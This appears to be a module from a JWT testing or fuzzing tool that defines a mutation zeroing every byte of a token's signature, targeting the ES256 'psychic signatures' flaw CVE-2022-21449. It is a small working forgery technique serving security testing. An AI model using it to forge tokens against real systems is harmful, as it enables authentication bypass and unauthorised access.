import { defineMutation } from '../mutation.js';

export default defineMutation({
  summary: 'Every byte of the signature is zero (for ES256: r and s are zero, CVE-2022-21449)',
  schema: { type: 'null' },
  phase: 'after',
  apply: (_args, { header, payload, signature }) => {
    const zeroes = Buffer.alloc(Buffer.from(signature, 'base64url').length);
    return `${header}.${payload}.${zeroes.toString('base64url')}`;
  },
});
